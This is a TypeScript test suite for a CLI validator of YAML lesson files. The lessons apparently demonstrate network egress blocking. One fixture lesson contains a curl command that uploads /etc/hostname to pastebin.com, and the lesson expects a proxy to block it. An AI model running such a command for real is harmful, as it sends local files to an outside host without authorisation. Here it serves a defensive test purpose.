import { execFile } from "node:child_process";
import { createHash } from "node:crypto";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ALIAS_BOMB } from "../../lessons/testing/alias-bomb";

// `npx tab lesson check` through the real binary (bin/tab.mjs), on files in a scratch folder.
const root = join(import.meta.dirname, "..", "..", "..");

function tab(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    execFile(process.execPath, [join(root, "bin", "tab.mjs"), ...args], { cwd: root, timeout: 60_000 }, (error, stdout, stderr) => {
      const code = error ? (typeof error.code === "number" ? error.code : -1) : 0;
      resolve({ code, stdout, stderr });
    });
  });
}

const GOOD = `lesson: 1
title: Pastebin is not on the list
steps:
  - title: Send a file to pastebin
    run: curl -sS -T /etc/hostname https://pastebin.com/api/upload
    expect:
      - verdict: host-not-allowed
        by: proxy
`;
const BAD = `lesson: 1
title: Broken
steps:
  - title: One
    run: "true"
    verify: ./check.sh
    expect:
      - verdict: host-denied
      - kernel: EFOO
`;
const sha = (text: string) => createHash("sha256").update(text).digest("hex");

let dir: string;
let good: string;
let bad: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), "tab-lesson-check-"));
  good = join(dir, "good.yaml");
  bad = join(dir, "bad.yaml");
  await writeFile(good, GOOD);
  await writeFile(bad, BAD);
});
afterAll(() => rm(dir, { recursive: true, force: true }));

describe("npx tab lesson check", () => {
  it("exits 0 on a valid lesson and says what it read", async () => {
    const r = await tab(["lesson", "check", good]);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(`${good}: ok, "Pastebin is not on the list", 1 step\n`);
  });

  it("prints every issue as FILE:LINE:COL field: message and exits 1", async () => {
    const r = await tab(["lesson", "check", bad]);
    expect(r.code).toBe(1);
    expect(r.stdout.trim().split("\n")).toEqual([
      `${bad}:6:5 steps[0].verify: unknown field "verify"`,
      `${bad}:8:18 steps[0].expect[0].verdict: unknown verdict code "host-denied"`,
      expect.stringMatching(
        new RegExp(
          `^${bad.replace(/[.*+?^${}()|[\]\\/]/g, "\\$&")}:9:17 steps\\[0\\]\\.expect\\[1\\]\\.kernel: unknown kernel result "EFOO"`,
        ),
      ),
    ]);
  });

  it("checks a pin written after the file and refuses one that does not match", async () => {
    expect((await tab(["lesson", "check", `${good}#sha256=${sha(GOOD)}`])).stdout).toMatch(/pin verified/);
    const r = await tab(["lesson", "check", `${good}#sha256=${sha("other")}`]);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain(
      `${good}:1:1 : lesson-pin-mismatch: the lesson's bytes hash to sha256=${sha(GOOD)}, the reference pins sha256=${sha("other")}`,
    );
  });

  it("checks --pin the same way", async () => {
    expect((await tab(["lesson", "check", good, "--pin", sha(GOOD)])).code).toBe(0);
    expect((await tab(["lesson", "check", good, "--pin", sha("other")])).code).toBe(1);
  });

  it("checks several files and fails when any is invalid", async () => {
    const r = await tab(["lesson", "check", good, bad]);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain(`${good}: ok`);
    expect(r.stdout).toContain(`${bad}:6:5`);
  });

  it("reports an alias bomb as that file's issue and goes on to the files after it", async () => {
    const bomb = join(dir, "bomb.yaml");
    await writeFile(bomb, ALIAS_BOMB);
    const r = await tab(["lesson", "check", bad, bomb, good]);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain(`${bad}:6:5`);
    expect(r.stdout).toMatch(new RegExp(`${bomb.replace(/[.*+?^${}()|[\]\\/]/g, "\\$&")}:4:8 : lesson-alias-bomb: `));
    expect(r.stdout).toContain(`${good}: ok`);
  });

  it("reports an output pattern the linear-time judge cannot run (a backreference) at its line and column", async () => {
    const backref = join(dir, "backref.yaml");
    await writeFile(backref, GOOD.replace("        by: proxy\n", '        by: proxy\n      - output: "(a+)\\\\1"\n'));
    const r = await tab(["lesson", "check", backref]);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain(`${backref}:9:17 steps[0].expect[1].output: output-pattern-unsupported: `);
  });

  it("reports a link the page would show as text (not https:) at its field's line, and exits 1", async () => {
    const link = join(dir, "link.yaml");
    await writeFile(link, GOOD.replace("    run: curl", "    text: See [the docs](http://docs.example/).\n    run: curl"));
    const r = await tab(["lesson", "check", link]);
    expect(r.code).toBe(1);
    expect(r.stdout).toBe(
      `${link}:5:11 steps[0].text: markdown-link-refused: "http://docs.example/" is not an https: URL, so the page shows this link as plain text\n`,
    );
  });

  it("says an unreadable file cannot be read, and exits 1", async () => {
    const r = await tab(["lesson", "check", join(dir, "missing.yaml")]);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/missing\.yaml:1:1 : cannot read the file \(ENOENT\)/);
  });

  const USAGE: [string, string[], RegExp][] = [
    ["no file", ["lesson", "check"], /name at least one lesson file/],
    ["an unknown option", ["lesson", "check", "--strict", good], /unknown option --strict/],
    ["a fragment that is not a pin", ["lesson", "check", `${good}#sha1=abc`], /64 hex digits/],
    ["a --pin that is not a sha256", ["lesson", "check", good, "--pin", "abc"], /--pin takes 64 hex digits/],
    ["no subcommand", ["lesson"], /name a subcommand/],
    ["an unknown subcommand", ["lesson", "lint"], /unknown subcommand "lint"/],
  ];
  for (const [name, args, message] of USAGE)
    it(`exits 64 on ${name}`, async () => {
      const r = await tab(args);
      expect(r.code).toBe(64);
      expect(r.stderr).toMatch(message);
    });

  it("is listed in the help", async () => {
    expect((await tab(["--help"])).stdout).toMatch(/lesson {4}check a lesson file/);
  });
});
